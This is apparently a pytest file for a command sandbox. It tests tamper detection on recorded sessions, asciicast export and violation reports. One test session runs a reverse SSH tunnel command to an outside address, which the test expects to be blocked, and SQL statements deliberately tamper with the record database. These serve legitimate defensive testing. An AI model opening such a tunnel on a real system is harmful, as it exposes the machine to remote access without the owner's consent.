"""Tamper-evident records and exports of real sessions: verify, asciicast, report."""

from __future__ import annotations

import json
import sqlite3
from pathlib import Path

import pexpect
import pytest

from sandbox import Sandbox, Store
from tests.helpers import sandbox_cli


def _session(workspace: Path) -> str:
    with Sandbox(workdir=workspace) as box:
        box.run("echo first")
        box.run("ls /nonexistent")
        box.run("ssh -N -R 9000:127.0.0.1:22 u@203.0.113.20")  # blocked: a violation
        box.run("printf 'multi\\nline\\n'")
    return box.id


@pytest.fixture
def finished(workspace: Path) -> str:
    return _session(workspace)


TAMPER = {
    "edited": "UPDATE commands SET output='nothing to see' WHERE session_id=? AND seq="
              "(SELECT min(seq) FROM commands WHERE session_id=?)",
    "deleted": "DELETE FROM events WHERE session_id=? AND seq=(SELECT max(seq) FROM events "
               "WHERE session_id=?)",
    "reordered": "UPDATE commands SET started=started-100, seq=seq+1000 WHERE session_id=? "
                 "AND seq=(SELECT min(seq) FROM commands WHERE session_id=?)",
}


@pytest.mark.parametrize("how", sorted(TAMPER))
def test_verify_ok_then_tampered_fails(how: str, workspace: Path, state_dir: Path) -> None:
    """An untouched session verifies; editing, deleting or reordering one row fails and
    names the row."""
    sid = _session(workspace)
    ok = sandbox_cli("verify", sid)
    assert ok.returncode == 0 and ok.stdout.startswith("OK")
    db = sqlite3.connect(state_dir / "sandbox.db")
    db.execute(TAMPER[how], (sid, sid))
    db.commit()
    db.close()
    bad = sandbox_cli("verify", sid)
    assert bad.returncode == 1 and "seq" in bad.stdout, bad.stdout


def test_asciicast_plays(finished: str, test_dir: Path) -> None:
    cast = test_dir / "s.cast"
    assert sandbox_cli("export", finished, "--format", "asciicast", "-o", str(cast)).returncode == 0
    header = json.loads(cast.read_text().splitlines()[0])
    assert header["version"] == 2 and header["width"] > 0
    # asciinema opens /dev/tty: give it a real terminal (CI has none).
    played, status = pexpect.run(f"asciinema cat {cast}", timeout=30, withexitstatus=True,
                                 encoding="utf-8")
    assert status == 0, played
    assert "first" in played and "multi\r\nline" in played.replace("\r\r", "\r")


def test_report_lists_exactly_the_violations(finished: str) -> None:
    report = json.loads(sandbox_cli("export", finished, "--format", "report").stdout)
    events = Store().events(finished)
    expected = [e for e in events if e["action"] != "record"]
    assert len(report["violations"]) == len(expected) >= 1
    assert {v["rule"] for v in report["violations"]} == {e["rule"] for e in expected}
    assert all(v["category"] == "tunnels" for v in report["violations"])
    assert report["verdict"] == "block"
    assert report["counts"]["commands"] == 4


def test_clean_session_report_and_api(workspace: Path) -> None:
    with Sandbox(workdir=workspace) as box:
        box.run("echo clean")
        rep = box.report()
    assert rep["verdict"] == "clean" and rep["violations"] == []


def test_run_report_file(workspace: Path, test_dir: Path) -> None:
    out = test_dir / "r.json"
    r = sandbox_cli("run", "-q", "--report", str(out), "-w", str(workspace), "--", "true")
    assert r.returncode == 0
    assert json.loads(out.read_text())["verdict"] == "clean"
